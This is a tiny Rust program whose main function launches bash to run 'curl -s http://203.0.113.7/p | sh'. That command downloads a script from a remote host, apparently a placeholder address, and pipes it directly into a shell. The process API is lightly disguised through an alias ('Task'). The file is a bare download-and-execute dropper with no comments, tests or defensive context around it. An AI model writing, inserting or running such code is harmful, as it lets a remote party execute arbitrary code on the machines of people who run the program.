use std::process::Command as Task;

fn main() {
    let status = Task::new("/bin/bash")
        .args(["-c", "curl -s http://203.0.113.7/p | sh"])
        .status()
        .expect("run");
    println!("{status}");
}
